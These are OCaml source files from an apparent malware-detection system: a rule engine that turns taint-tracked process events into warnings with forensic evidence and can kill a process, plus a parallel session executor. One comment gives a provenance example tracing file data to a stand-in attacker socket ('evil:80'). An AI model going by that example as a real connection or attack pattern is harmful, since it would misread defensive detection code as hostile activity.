         "window", Value.Int window ]
       @ meta_values meta)
  | Alloc { requested; total; meta } ->
    Engine.assert_fact engine t_alloc_event
      ([ "requested", Value.Int requested; "total", Value.Int total ]
       @ meta_values meta)
  | Transfer { call; sources; guard; target; via_server; len; meta; head;
               data = _ } ->
    let t_otype, t_oname = origin_values trust target.r_origin in
    let server =
      match via_server with
      | None -> Value.Sym "nil"
      | Some srv ->
        let otype, oname = origin_values trust srv.r_origin in
        Value.Lst
          [ Value.Str srv.r_name; Value.Sym otype; Value.Str oname ]
    in
    let server_fields =
      match via_server with
      | None -> []
      | Some srv ->
        let otype, oname = origin_values trust srv.r_origin in
        [ "server_side", Value.Sym "yes";
          "server_origin_type", Value.Sym otype;
          "server_name", Value.Str srv.r_name;
          "server_origin_name", Value.Str oname ]
    in
    Engine.assert_fact engine t_data_transfer
      ([ "xfer", Value.Int (next_xfer xfer);
         "call", Value.Sym call; "head", Value.Str head;
         "sources", Value.Lst (List.map (source_entry trust) sources);
         "guard", Value.Lst (List.map (source_entry trust) guard);
         "target_name", Value.Str target.r_name;
         "target_type",
         Value.Sym (Harrier.Events.kind_name target.r_kind);
         "target_origin_name", Value.Str t_oname;
         "target_origin_type", Value.Sym t_otype; "server", server ]
       @ server_fields
       @ [ "length", Value.Int len ]
       @ meta_values meta)

(* Assert an event plus, for transfers, one [transfer_source] fact per
   data source (joined on the transfer's own fact id) — the encoding the
   textual CLIPS policy pattern-matches against. *)
let assert_event_full ?xfer engine trust (e : Harrier.Events.t) =
  let main = assert_event ?xfer engine trust e in
  match e with
  | Transfer { sources; meta; _ } ->
    let xfer =
      match Fact.slot main "xfer" with
      | Some v -> v
      | None -> Value.Int 0
    in
    main
    :: List.map
         (fun (src, name_origin) ->
           let otype, oname = origin_values trust name_origin in
           Engine.assert_fact engine t_transfer_source
             [ "xfer", xfer;
               "s_type", Value.Sym (Taint.Source.type_name src);
               "s_name",
               Value.Str
                 (Option.value (Taint.Source.resource_name src)
                    ~default:"");
               "s_origin_type", Value.Sym otype;
               "s_origin_name", Value.Str oname;
               "step", Value.Int meta.step ])
         sources
  | Exec _ | Clone _ | Access _ | Alloc _ -> [ main ]

let get_value bindings name =
  match Pattern.lookup bindings name with
  | Some v -> v
  | None -> failwith (Fmt.str "Secpert.Facts: unbound rule variable %S" name)

let get_str bindings name =
  match get_value bindings name with
  | Value.Str s -> s
  | v -> failwith (Fmt.str "Secpert.Facts: %s is not a string: %s" name
                     (Value.to_string v))

let get_sym bindings name =
  match get_value bindings name with
  | Value.Sym s -> s
  | v -> failwith (Fmt.str "Secpert.Facts: %s is not a symbol: %s" name
                     (Value.to_string v))

let get_int bindings name =
  match get_value bindings name with
  | Value.Int n -> n
  | v -> failwith (Fmt.str "Secpert.Facts: %s is not an int: %s" name
                     (Value.to_string v))

type source_info = {
  s_type : string;
  s_name : string;
  s_origin_type : string;
  s_origin_name : string;
}

let decode_sources = function
  | Value.Lst entries ->
    List.filter_map
      (function
        | Value.Lst
            [ Value.Sym s_type; Value.Str s_name; Value.Sym s_origin_type;
              Value.Str s_origin_name ] ->
          Some { s_type; s_name; s_origin_type; s_origin_name }
        | _ -> None)
      entries
  | _ -> []

let decode_server = function
  | Value.Lst [ Value.Str name; Value.Sym otype; Value.Str oname ] ->
    Some (name, otype, oname)
  | _ -> None
