(* Per-warning forensic evidence: references to the working-memory
   facts the firing rule matched and the taint-classified resources the
   policy action looked at.  Everything is recorded as plain strings
   and ints so a trace consumer can reconstruct the causal chain from a
   JSONL trace alone, with no live engine and no guest re-execution. *)

type fact_ref = {
  fr_template : string;
  fr_id : int;
  fr_step : int;
}

type origin_ref = {
  og_role : string;
  og_type : string;
  og_name : string;
  og_origin_type : string;
  og_origin_name : string;
}

type t = {
  facts : fact_ref list;
  origins : origin_ref list;
}

let empty = { facts = []; origins = [] }

let is_empty e = e.facts = [] && e.origins = []

let of_fact (f : Expert.Fact.t) =
  let step =
    match Expert.Fact.slot f "step" with
    | Some (Expert.Value.Int n) -> n
    | Some _ | None -> -1
  in
  { fr_template = f.template; fr_id = f.id; fr_step = step }

let origin ~role ~otype ~name ~origin_type ~origin_name =
  { og_role = role; og_type = otype; og_name = name;
    og_origin_type = origin_type; og_origin_name = origin_name }

(* Wire format (embedded in "warning" trace lines):
   facts    "data_transfer#12@24,transfer_source#13@24"  (tpl#id@step)
   origins  "source=FILE:/f<-SOCKET:evil:80;target=FILE:/x<-BINARY:/m"
   Parsers split the role at the first '=', the two halves at the
   first "<-", and each TYPE:name at the first ':' — so ':' inside
   resource names (socket host:port) survives the round trip. *)

let fact_ref_to_string r =
  Fmt.str "%s#%d@%d" r.fr_template r.fr_id r.fr_step

let facts_to_string e =
  String.concat "," (List.map fact_ref_to_string e.facts)

let origin_ref_to_string o =
  Fmt.str "%s=%s:%s<-%s:%s" o.og_role o.og_type o.og_name o.og_origin_type
    o.og_origin_name

let origins_to_string e =
  String.concat ";" (List.map origin_ref_to_string e.origins)

let pp ppf e =
  Fmt.pf ppf "@[facts=[%s] origins=[%s]@]" (facts_to_string e)
    (origins_to_string e)
