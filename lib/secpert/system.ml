type policy = Native | Clips

(* A policy prepared for installation into many engines.  For [Clips]
   this holds the parsed rule forms, so the textual policy is parsed
   once per engine-lifetime rather than once per session; for [Native]
   there is nothing to precompute (rule closures capture per-session
   context and are cheap to build). *)
type compiled = { c_policy : policy; c_forms : Expert.Clips.installer list }

let compile = function
  | Native -> { c_policy = Native; c_forms = [] }
  | Clips -> { c_policy = Clips; c_forms = Policy_clips.compile () }

type t = {
  engine : Expert.Engine.t;
  trust : Trust.t;
  policy : policy;
  auto_kill : Severity.t option;
  warning_cap : int;  (* max stored warnings (max_int = unbounded) *)
  wm_budget : int;  (* max working-memory facts (max_int = unbounded) *)
  mutable warnings : Warning.t list;  (* newest first; capped *)
  mutable fresh : Warning.t list;  (* warnings of the event in flight *)
  mutable count : int;  (* total raised, stored or not *)
  mutable max_sev : Severity.t option;  (* over every warning raised *)
  mutable dropped : int;  (* raised but not stored (cap) *)
  mutable wm_peak : int;
  mutable wm_tripped : bool;
  xfer : int ref;  (* per-instance transfer join-id counter *)
}

let c_warnings = Obs.Counter.make "secpert.warnings"
let c_dropped = Obs.Counter.make "secpert.warnings.dropped"
let c_wm_trip = Obs.Counter.make "secpert.wm_budget.tripped"

let create_from ?(trust = Trust.default)
    ?(thresholds = Context.default_thresholds) ?auto_kill ?warning_cap
    ?wm_budget ~compiled () =
  let engine = Expert.Engine.create () in
  Facts.deftemplates engine;
  let cap = function Some n -> max 0 n | None -> max_int in
  let t =
    { engine; trust; policy = compiled.c_policy; auto_kill;
      warning_cap = cap warning_cap;
      wm_budget = cap wm_budget; warnings = []; fresh = []; count = 0;
      max_sev = None; dropped = 0; wm_peak = 0; wm_tripped = false;
      xfer = ref 0 }
  in
  let ctx =
    { Context.trust; thresholds;
      warn =
        (fun w ->
          (* attach the firing activation's matched facts as evidence —
             centrally, so both the native and the CLIPS policies get
             provenance without threading facts through every action *)
          let w =
            match Expert.Engine.current_activation engine with
            | Some (_rule, facts) ->
              Warning.with_facts w (List.map Evidence.of_fact facts)
            | None -> w
          in
          (* the verdict path (count, severity, the in-flight list the
             auto-kill decision reads) is exact regardless of the cap;
             only the stored transcript is bounded *)
          t.fresh <- w :: t.fresh;
          t.count <- t.count + 1;
          t.max_sev <-
            (match t.max_sev with
             | Some s when Severity.(s >= w.Warning.severity) -> t.max_sev
             | Some _ | None -> Some w.Warning.severity);
          if List.length t.warnings < t.warning_cap then
            t.warnings <- w :: t.warnings
          else begin
            t.dropped <- t.dropped + 1;
            Obs.Counter.incr c_dropped
          end;
          Obs.Counter.incr c_warnings;
          Obs.Counter.incr
            (Obs.Counter.labeled "secpert.warnings"
               (Severity.label w.Warning.severity));
          if Obs.Trace.enabled () then begin
            let ev = w.Warning.evidence in
            Obs.Trace.emit "warning"
              ([ "severity", Obs.Str (Severity.label w.Warning.severity);
                 "rule", Obs.Str w.Warning.rule;
                 "pid", Obs.Int w.Warning.pid;
                 "tick", Obs.Int w.Warning.time;
                 "rare", Obs.Bool w.Warning.rare ]
               @ (if ev.Evidence.facts = [] then []
                  else
                    [ "ev_facts",
                      Obs.Str (Evidence.facts_to_string ev) ])
               @ (if ev.Evidence.origins = [] then []
                  else
                    [ "ev_origins",
                      Obs.Str (Evidence.origins_to_string ev) ])
               @ [ "message", Obs.Str w.Warning.message ])
          end) }
  in
  (match compiled.c_policy with
   | Native ->
     Policy_exec.register engine ctx;
     Policy_resource.register engine ctx;
     Policy_flow.register engine ctx
   | Clips -> Policy_clips.install_forms engine ctx compiled.c_forms);
  t

let create ?trust ?thresholds ?auto_kill ?warning_cap ?wm_budget
    ?(policy = Native) () =
  create_from ?trust ?thresholds ?auto_kill ?warning_cap ?wm_budget
    ~compiled:(compile policy) ()

let trust t = t.trust

let engine t = t.engine

let handle_event t event =
  t.fresh <- [];
  let facts =
    match t.policy with
    | Native -> [ Facts.assert_event ~xfer:t.xfer t.engine t.trust event ]
    | Clips -> Facts.assert_event_full ~xfer:t.xfer t.engine t.trust event
  in
  ignore (Expert.Engine.run t.engine);
  List.iter (Expert.Engine.retract t.engine) facts;
  let wm = List.length (Expert.Engine.facts t.engine) in
  if wm > t.wm_peak then t.wm_peak <- wm;
  if wm > t.wm_budget && not t.wm_tripped then begin
    t.wm_tripped <- true;
    Obs.Counter.incr c_wm_trip
  end;
  match t.auto_kill with
  | Some threshold
    when List.exists (fun w -> Severity.(w.Warning.severity >= threshold))
           t.fresh -> Osim.Kernel.Kill
  | Some _ | None -> Osim.Kernel.Allow

let attach t monitor =
  Harrier.Monitor.subscribe monitor ~name:"secpert" (handle_event t)

let warnings t = List.rev t.warnings

let distinct_warnings t = Warning.dedup (warnings t)

let warning_count t = t.count

let max_severity t = t.max_sev

let degraded t =
  let reasons = [] in
  let reasons =
    if t.wm_tripped then
      Fmt.str
        "working-memory budget exceeded (peak %d facts > %d); verdicts \
         computed, WM growth flagged"
        t.wm_peak t.wm_budget
      :: reasons
    else reasons
  in
  if t.dropped > 0 then
    Fmt.str
      "warning cap %d reached; %d later warning(s) dropped from the \
       transcript (counts and verdict remain exact)"
      t.warning_cap t.dropped
    :: reasons
  else reasons
