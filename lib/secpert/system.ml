type policy = Native | Clips

type t = {
  engine : Expert.Engine.t;
  trust : Trust.t;
  policy : policy;
  auto_kill : Severity.t option;
  mutable warnings : Warning.t list;  (* newest first *)
  mutable count : int;
}

let c_warnings = Obs.Counter.make "secpert.warnings"

let create ?(trust = Trust.default)
    ?(thresholds = Context.default_thresholds) ?auto_kill
    ?(policy = Native) () =
  let engine = Expert.Engine.create () in
  Facts.deftemplates engine;
  let t = { engine; trust; policy; auto_kill; warnings = []; count = 0 } in
  let ctx =
    { Context.trust; thresholds;
      warn =
        (fun w ->
          t.warnings <- w :: t.warnings;
          t.count <- t.count + 1;
          Obs.Counter.incr c_warnings;
          Obs.Counter.incr
            (Obs.Counter.labeled "secpert.warnings"
               (Severity.label w.Warning.severity));
          if Obs.Trace.enabled () then
            Obs.Trace.emit "warning"
              [ "severity", Obs.Str (Severity.label w.Warning.severity);
                "rule", Obs.Str w.Warning.rule;
                "pid", Obs.Int w.Warning.pid;
                "tick", Obs.Int w.Warning.time;
                "rare", Obs.Bool w.Warning.rare;
                "message", Obs.Str w.Warning.message ]) }
  in
  (match policy with
   | Native ->
     Policy_exec.register engine ctx;
     Policy_resource.register engine ctx;
     Policy_flow.register engine ctx
   | Clips -> Policy_clips.install engine ctx);
  t

let trust t = t.trust

let engine t = t.engine

let handle_event t event =
  let before = t.count in
  let facts =
    match t.policy with
    | Native -> [ Facts.assert_event t.engine t.trust event ]
    | Clips -> Facts.assert_event_full t.engine t.trust event
  in
  ignore (Expert.Engine.run t.engine);
  List.iter (Expert.Engine.retract t.engine) facts;
  let fresh =
    let n = t.count - before in
    List.filteri (fun i _ -> i < n) t.warnings
  in
  match t.auto_kill with
  | Some threshold
    when List.exists (fun w -> Severity.(w.Warning.severity >= threshold))
           fresh -> Osim.Kernel.Kill
  | Some _ | None -> Osim.Kernel.Allow

let attach t monitor = Harrier.Monitor.set_sink monitor (handle_event t)

let warnings t = List.rev t.warnings

let distinct_warnings t = Warning.dedup (warnings t)

let warning_count t = t.count

let max_severity t = Warning.max_severity t.warnings
