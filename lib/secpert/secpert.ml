(** Secpert: the security expert system (Section 6, Fig. 2).

    This is the library facade.  {!System} is the runnable instance
    (engine + policy + trust); the submodules expose the pieces for
    custom policies and tests. *)

module Severity = Severity
module Evidence = Evidence
module Warning = Warning
module Trust = Trust
module Context = Context
module Facts = Facts
module Policy_exec = Policy_exec
module Policy_resource = Policy_resource
module Policy_flow = Policy_flow
module Policy_clips = Policy_clips
module System = System
