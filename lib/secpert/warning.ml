type t = {
  severity : Severity.t;
  rule : string;
  message : string;
  pid : int;
  time : int;
  rare : bool;
  mult : int;
  evidence : Evidence.t;
}

let make ~severity ~rule ~pid ~time ?(rare = false) ?(origins = []) message =
  { severity; rule; message; pid; time; rare; mult = 1;
    evidence = { Evidence.facts = []; origins } }

let with_facts w facts =
  { w with evidence = { w.evidence with Evidence.facts } }

let pp ppf w =
  Fmt.pf ppf "Warning [%a]%s %s%s" Severity.pp w.severity
    (if w.mult > 1 then Fmt.str " (x%d)" w.mult else "")
    w.message
    (if w.rare then "\n\tThis code is rarely executed..." else "")

let to_string = Fmt.to_to_string pp

let max_severity ws =
  List.fold_left
    (fun acc w ->
      match acc with
      | None -> Some w.severity
      | Some s -> if Severity.(w.severity >= s) then Some w.severity else acc)
    None ws

(* Duplicates collapse into the first occurrence, which accumulates
   their multiplicity so alarm volume stays visible in reports. *)
let dedup ws =
  let seen : (string * string * string, t ref) Hashtbl.t =
    Hashtbl.create 16
  in
  let kept_rev =
    List.fold_left
      (fun acc w ->
        let key = w.rule, Severity.label w.severity, w.message in
        match Hashtbl.find_opt seen key with
        | Some r ->
          r := { !r with mult = !r.mult + w.mult };
          acc
        | None ->
          let r = ref w in
          Hashtbl.replace seen key r;
          r :: acc)
      [] ws
  in
  List.rev_map (fun r -> !r) kept_rev
