(** Warnings issued to the user. *)

type t = {
  severity : Severity.t;
  rule : string;  (** the policy rule that fired *)
  message : string;  (** paper-style body, possibly multi-line *)
  pid : int;
  time : int;
  rare : bool;  (** "This code is rarely executed..." reinforcement *)
  mult : int;
      (** multiplicity: how many identical warnings this one stands
          for after {!dedup} ([1] as issued) *)
  evidence : Evidence.t;
      (** forensic chain: matched facts (attached by the warning sink
          from the firing activation) and the taint-classified
          resources the policy action consulted *)
}

val make :
  severity:Severity.t -> rule:string -> pid:int -> time:int -> ?rare:bool ->
  ?origins:Evidence.origin_ref list -> string -> t
(** [make ... ?origins message] builds a warning with multiplicity 1;
    [origins] seeds the evidence (matched facts are attached later by
    the system's warning sink). *)

val with_facts : t -> Evidence.fact_ref list -> t
(** [with_facts w refs] replaces the evidence's fact references. *)

(** [pp] renders the paper's format:
    {v Warning [HIGH] Found Write call to ... v}
    with an [(xN)] multiplicity marker after the severity when the
    warning stands for [N > 1] identical occurrences. *)
val pp : Format.formatter -> t -> unit

val to_string : t -> string

(** [max_severity ws] is the highest severity present, if any. *)
val max_severity : t list -> Severity.t option

(** [dedup ws] collapses warnings identical in (rule, severity,
    message) into their first occurrence, in order, accumulating the
    duplicates' multiplicity into {!field-mult}. *)
val dedup : t list -> t list
