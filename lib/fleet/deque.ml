(* Chase-Lev work-stealing deque, hand-rolled on [Atomic].

   One owner domain pushes and pops at the bottom; any number of thief
   domains steal from the top with a CAS.  The ring buffer is grown by
   the owner only; thieves that raced a grow still read through the
   array they loaded first — every logical index in [top, bottom) maps
   to a cell holding the same task in both generations (grow copies by
   logical index, and the owner never overwrites an old-generation cell,
   because it grows precisely when the ring would wrap onto live
   entries).

   All cells are [Atomic.t] and every access is sequentially consistent
   — this deque schedules whole analysis sessions (milliseconds each),
   so we buy the simplest possible memory-model argument rather than
   chase relaxed-access nanoseconds. *)

type 'a t = {
  top : int Atomic.t;  (* next index thieves claim *)
  bottom : int Atomic.t;  (* next index the owner writes *)
  mutable cells : 'a option Atomic.t array;  (* power-of-two ring *)
}

let create ?(capacity = 16) () =
  let cap = ref 2 in
  while !cap < capacity do
    cap := !cap * 2
  done;
  { top = Atomic.make 0;
    bottom = Atomic.make 0;
    cells = Array.init !cap (fun _ -> Atomic.make None) }

let size t = max 0 (Atomic.get t.bottom - Atomic.get t.top)

(* Owner-only: double the ring, copying live entries by logical index.
   Old-generation cells stay intact for thieves mid-steal. *)
let grow t tp b =
  let old = t.cells in
  let osize = Array.length old in
  let nsize = osize * 2 in
  let cells = Array.init nsize (fun _ -> Atomic.make None) in
  for i = tp to b - 1 do
    Atomic.set cells.(i land (nsize - 1)) (Atomic.get old.(i land (osize - 1)))
  done;
  t.cells <- cells

let push t v =
  let b = Atomic.get t.bottom in
  let tp = Atomic.get t.top in
  if b - tp >= Array.length t.cells then grow t tp b;
  let cells = t.cells in
  Atomic.set cells.(b land (Array.length cells - 1)) (Some v);
  Atomic.set t.bottom (b + 1)

let pop t =
  let b = Atomic.get t.bottom - 1 in
  Atomic.set t.bottom b;
  let tp = Atomic.get t.top in
  if b < tp then begin
    (* empty: restore *)
    Atomic.set t.bottom tp;
    None
  end
  else begin
    let cells = t.cells in
    let v = Atomic.get cells.(b land (Array.length cells - 1)) in
    if b > tp then v
    else begin
      (* last entry: race thieves for it via the top CAS *)
      let won = Atomic.compare_and_set t.top tp (tp + 1) in
      Atomic.set t.bottom (tp + 1);
      if won then v else None
    end
  end

let rec steal t =
  let tp = Atomic.get t.top in
  let b = Atomic.get t.bottom in
  if tp >= b then None
  else begin
    let cells = t.cells in
    let v = Atomic.get cells.(tp land (Array.length cells - 1)) in
    if Atomic.compare_and_set t.top tp (tp + 1) then v
    else begin
      (* lost to the owner's pop or another thief; rescan *)
      Domain.cpu_relax ();
      steal t
    end
  end
