(* Fleet supervision: admission control, wall-clock watchdog, drain.

   Sits between the executor and a front end (Serve / hth_serve).
   Three concerns, all about keeping a long-lived service answering:

   - Admission: a global in-flight cap.  Past it, [submit] answers
     [Overloaded] instead of letting the reorder buffer and response
     queues grow without bound.  (Per-connection fairness windows live
     in Serve — connections block their own reader, which is
     deterministic; the global cap is the cross-connection backstop.)

   - Deadlines: a watchdog thread scans running jobs; one that overran
     its wall-clock deadline is failed with [Error Timeout] at its
     sequence position and its worker domain is replaced, so a single
     wedged session can never stall the release order or eat a worker
     for good.  Wall time makes this the one nondeterministic path in
     the fleet: deadlines are a last resort behind the deterministic
     tick budget, and never fire for deterministic, terminating
     sessions given a sane deadline.

   - Drain: [begin_drain] flips refusal on, [await_drain] blocks until
     every admitted job has been released — the SIGTERM half of a
     graceful shutdown, leaving [shutdown] to tear the fleet down. *)

type admission = Admitted of int | Overloaded | Draining

type health = {
  h_jobs : int;
  h_inflight : int;
  h_draining : bool;
  h_timeouts : int;
  h_respawns : int;
  h_stats : Pool.stats;
}

type t = {
  ex : Executor.t;
  default_deadline : float option;
  max_inflight : int;
  poll : float;
  mu : Mutex.t;
  cv : Condition.t;  (* in-flight count moved *)
  mutable inflight : int;  (* admitted, not yet released by [next] *)
  mutable draining : bool;
  mutable stopping : bool;  (* watchdog exit flag *)
  mutable timeouts : int;
  mutable respawns : int;
  mutable watchdog : Thread.t option;
}

(* One scan: every overdue job is failed in place; its worker is
   replaced only if the (worker, epoch) pair is still current — a
   ghost worker that wedged a second time is already abandoned and
   must not cost the fleet its innocent replacement. *)
let scan t =
  let now = Unix.gettimeofday () in
  List.iter
    (fun seq ->
      match Executor.force_timeout t.ex seq with
      | None -> ()  (* finished while we looked *)
      | Some (w, epoch) ->
        Mutex.lock t.mu;
        t.timeouts <- t.timeouts + 1;
        let current = Executor.epoch t.ex w = epoch in
        if current then t.respawns <- t.respawns + 1;
        Mutex.unlock t.mu;
        if current then Executor.respawn t.ex w)
    (Executor.overdue t.ex ~now)

let watchdog_loop t =
  let rec go () =
    if not t.stopping then begin
      Thread.delay t.poll;
      (try scan t with _ -> ());
      go ()
    end
  in
  go ()

let create ?deadline ?(max_inflight = 256) ?(poll = 0.02) ?(jobs = 1)
    engines =
  let t =
    { ex = Executor.create ~jobs engines;
      default_deadline = deadline;
      max_inflight = max 1 max_inflight;
      poll = (if poll > 0. then poll else 0.02);
      mu = Mutex.create ();
      cv = Condition.create ();
      inflight = 0;
      draining = false;
      stopping = false;
      timeouts = 0;
      respawns = 0;
      watchdog = None }
  in
  t.watchdog <- Some (Thread.create watchdog_loop t);
  t

let executor t = t.ex

let jobs t = Executor.jobs t.ex

let submit t job =
  let job =
    match Executor.deadline job, t.default_deadline with
    | None, Some d -> Executor.with_deadline job d
    | _ -> job
  in
  Mutex.lock t.mu;
  if t.draining then begin
    Mutex.unlock t.mu;
    Draining
  end
  else if t.inflight >= t.max_inflight then begin
    Mutex.unlock t.mu;
    Overloaded
  end
  else begin
    (* count before releasing the lock so concurrent submitters cannot
       overshoot the cap; roll back if the executor is already closed *)
    t.inflight <- t.inflight + 1;
    Mutex.unlock t.mu;
    match Executor.try_submit t.ex job with
    | Some seq -> Admitted seq
    | None ->
      Mutex.lock t.mu;
      t.inflight <- t.inflight - 1;
      Condition.broadcast t.cv;
      Mutex.unlock t.mu;
      Draining
  end

let next t =
  match Executor.next t.ex with
  | None -> None
  | Some o ->
    Mutex.lock t.mu;
    t.inflight <- t.inflight - 1;
    Condition.broadcast t.cv;
    Mutex.unlock t.mu;
    Some o

let begin_drain t =
  Mutex.lock t.mu;
  t.draining <- true;
  Mutex.unlock t.mu

let draining t =
  Mutex.lock t.mu;
  let d = t.draining in
  Mutex.unlock t.mu;
  d

let await_drain t =
  Mutex.lock t.mu;
  while t.inflight > 0 do
    Condition.wait t.cv t.mu
  done;
  Mutex.unlock t.mu

let health t =
  Mutex.lock t.mu;
  let h =
    { h_jobs = Executor.jobs t.ex;
      h_inflight = t.inflight;
      h_draining = t.draining;
      h_timeouts = t.timeouts;
      h_respawns = t.respawns;
      h_stats = Executor.stats t.ex }
  in
  Mutex.unlock t.mu;
  h

let shutdown t =
  begin_drain t;
  Mutex.lock t.mu;
  t.stopping <- true;
  Mutex.unlock t.mu;
  Option.iter Thread.join t.watchdog;
  t.watchdog <- None;
  Executor.shutdown t.ex
