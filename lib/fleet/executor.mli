(** Domain-parallel session executor.

    Wraps {!Pool} with everything Engine-shaped: each worker owns an
    {!Hth.Engine.fork} of every named engine (compiled artifacts
    shared, mutable pools private), sessions run as pool tasks, and
    outcomes come back {e in submission order} through a reorder
    buffer — so batch output derived from {!next} is byte-identical to
    running the same jobs sequentially, independent of interleaving.

    Determinism: a session's result (trace bytes included) depends only
    on its own job, never on which worker ran it or what ran before —
    per-domain Obs state, per-run counter diffs, and fork-private
    pools guarantee it (see DESIGN.md §15). *)

type t

type job

(** [job setup] describes one session: [engine] names which of the
    executor's engines runs it (default ["default"]); [budgets],
    [fault] as in {!Hth.Engine.run_outcome}; [trace] captures the
    session's JSONL trace into the outcome. *)
val job :
  ?engine:string ->
  ?budgets:Hth.Engine.budgets ->
  ?fault:Osim.Fault.plan ->
  ?trace:bool ->
  Hth.Engine.setup ->
  job

type outcome = {
  o_seq : int;  (** the sequence number {!submit} returned *)
  o_trace : string option;  (** JSONL trace bytes when [trace:true] *)
  o_result : (Hth.Engine.result, Hth.Error.t) Stdlib.result;
      (** typed per-session outcome; a job naming an unknown engine
          yields [Error (Policy_error _)], an escaped exception
          [Error (Crash _)] — the fleet itself never propagates *)
}

(** [create ~jobs engines] forks each named engine once per worker and
    spawns the pool.  The parent engines stay usable by the caller. *)
val create : ?jobs:int -> (string * Hth.Engine.t) list -> t

val jobs : t -> int

(** [submit t job] enqueues a session, returning its sequence number.
    Raises [Invalid_argument] after {!close}. *)
val submit : t -> job -> int

(** [next t] blocks for the outcome with the lowest unreleased sequence
    number; [None] once the executor is closed and every outcome has
    been released.  Call from one consumer at a time. *)
val next : t -> outcome option

(** [run_all t jobs] submits all and collects their outcomes in order —
    the whole-batch convenience (requires every previously submitted
    outcome to have been consumed). *)
val run_all : t -> job list -> outcome list

(** No further submissions; pending work still completes and {!next}
    drains it. *)
val close : t -> unit

(** [shutdown t] closes, drains, joins the workers and absorbs their
    observability shards into the calling domain (worker-index order —
    deterministic counter totals). *)
val shutdown : t -> unit

val stats : t -> Pool.stats
