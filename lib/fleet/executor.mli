(** Domain-parallel session executor.

    Wraps {!Pool} with everything Engine-shaped: each worker owns an
    {!Hth.Engine.fork} of every named engine (compiled artifacts
    shared, mutable pools private, keyed by worker slot {e and} epoch
    so respawned workers never share a fork with the ghost they
    replaced), sessions run as pool tasks, and outcomes come back
    {e in submission order} through a reorder buffer — so batch output
    derived from {!next} is byte-identical to running the same jobs
    sequentially, independent of interleaving.

    Determinism: a session's result (trace bytes included) depends only
    on its own job, never on which worker ran it or what ran before —
    per-domain Obs state, per-run counter diffs, and fork-private
    pools guarantee it (see DESIGN.md §15).  The one exception is the
    supervision path: {!force_timeout} consults the wall clock, so it
    only ever fires for sessions that genuinely wedge (see DESIGN.md
    §17). *)

type t

type job

(** [job setup] describes one session: [engine] names which of the
    executor's engines runs it (default ["default"]); [budgets],
    [fault] as in {!Hth.Engine.run_outcome}; [trace] captures the
    session's JSONL trace into the outcome; [store] captures it as a
    sealed warehouse segment instead (both may be set — one chunked
    sink tees, so the bytes agree); [deadline] is a wall-clock budget
    in seconds enforced by a supervisor calling {!force_timeout} (the
    executor itself never watches the clock). *)
val job :
  ?engine:string ->
  ?budgets:Hth.Engine.budgets ->
  ?fault:Osim.Fault.plan ->
  ?trace:bool ->
  ?store:bool ->
  ?deadline:float ->
  Hth.Engine.setup ->
  job

(** [with_deadline j s] is [j] with its deadline replaced by [s]. *)
val with_deadline : job -> float -> job

val deadline : job -> float option

type outcome = {
  o_seq : int;  (** the sequence number {!submit} returned *)
  o_trace : string option;  (** JSONL trace bytes when [trace:true] *)
  o_segment : Store.Segment.sealed option;
      (** sealed segment when [store:true] — the coordinator appends
          these to a {!Store.Warehouse.t} in release order, which makes
          the manifest deterministic across worker counts *)
  o_result : (Hth.Engine.result, Hth.Error.t) Stdlib.result;
      (** typed per-session outcome; a job naming an unknown engine
          yields [Error (Policy_error _)], an escaped exception
          [Error (Crash _)], a forced wall-clock timeout
          [Error (Timeout _)] — the fleet itself never propagates *)
}

(** [create ~jobs engines] forks each named engine once per worker and
    spawns the pool.  The parent engines stay usable by the caller. *)
val create : ?jobs:int -> (string * Hth.Engine.t) list -> t

val jobs : t -> int

(** [epoch t w] is worker slot [w]'s current incarnation (see
    {!Pool.epoch}). *)
val epoch : t -> int -> int

(** [submit t job] enqueues a session, returning its sequence number.
    Raises [Invalid_argument] after {!close} — programmer error; use
    {!try_submit} on paths that race shutdown. *)
val submit : t -> job -> int

(** [try_submit t job] is {!submit} returning [None] instead of
    raising once the executor is closed — for servers whose read loops
    legitimately race a drain. *)
val try_submit : t -> job -> int option

(** [next t] blocks for the outcome with the lowest unreleased sequence
    number; [None] once the executor is closed and every outcome has
    been released.  Call from one consumer at a time. *)
val next : t -> outcome option

(** Sequence numbers assigned but not yet released by {!next}. *)
val pending : t -> int

(** [overdue t ~now] is the sorted sequence numbers of running jobs
    whose wall-clock deadline has passed at time [now]
    ([Unix.gettimeofday] scale). *)
val overdue : t -> now:float -> int list

(** [force_timeout t seq] abandons a running job: synthesizes an
    [Error Timeout] outcome at its sequence position (so {!next} never
    stalls on it) and returns the [(worker, epoch)] it was running on,
    or [None] if it completed in the meantime.  The job's eventual
    late completion, if any, is dropped.  Pair with {!respawn} when
    the returned epoch is still current. *)
val force_timeout : t -> int -> (int * int) option

(** [respawn t w] re-forks every engine for slot [w]'s next epoch and
    replaces the worker domain (see {!Pool.respawn}).  One supervising
    caller at a time. *)
val respawn : t -> int -> unit

(** [run_all t jobs] submits all and collects their outcomes in order —
    the whole-batch convenience (requires every previously submitted
    outcome to have been consumed). *)
val run_all : t -> job list -> outcome list

(** No further submissions; pending work still completes and {!next}
    drains it. *)
val close : t -> unit

(** [shutdown t] closes, drains, joins the workers and absorbs their
    observability shards into the calling domain (worker-index order —
    deterministic counter totals). *)
val shutdown : t -> unit

val stats : t -> Pool.stats
