(* Line-framed JSON job protocol over the executor.

   One request per input line — a flat JSON object, the same dialect
   Obs.Trace emits and Forensics.Jsonl parses:

     {"scenario":"pma","policy":"clips","seed":7,"id":"job-42"}

   Fields: [scenario] (required), [policy] "native"|"clips" (default
   native), [seed] int or [fault_plan] string (mutually exclusive),
   [budget] "KEY=N,KEY=N", [id] echoed back verbatim.

   One response line per request, in input order, whatever order the
   fleet finished them in:

     {"seq":0,"id":"job-42","scenario":"pma","status":"ok",
      "verdict":"SUSPICIOUS (HIGH)","expected":"suspicious (HIGH)",
      "match":true,"warnings":5,"distinct":2,"events":210,
      "degraded":false,"findings":"..."}

   Malformed lines produce {"status":"bad_request",...} at their
   sequence position instead of poisoning the stream.  All response
   content is session-deterministic, so serving the same request
   script is byte-identical across runs and job counts. *)

type target = {
  t_setup : Hth.Engine.setup;
  t_expected : string;
  t_matches : Hth.Report.verdict -> bool;
}

type resolver = string -> target option

(* ------------------------------------------------------------------ *)
(* flat-JSON response rendering (mirrors the escapes Jsonl accepts)    *)

type field = I of int | S of string | B of bool

let add_escaped b s =
  String.iter
    (fun c ->
      match c with
      | '"' -> Buffer.add_string b "\\\""
      | '\\' -> Buffer.add_string b "\\\\"
      | '\n' -> Buffer.add_string b "\\n"
      | '\t' -> Buffer.add_string b "\\t"
      | '\r' -> Buffer.add_string b "\\r"
      | c when Char.code c < 0x20 ->
        Buffer.add_string b (Printf.sprintf "\\u%04x" (Char.code c))
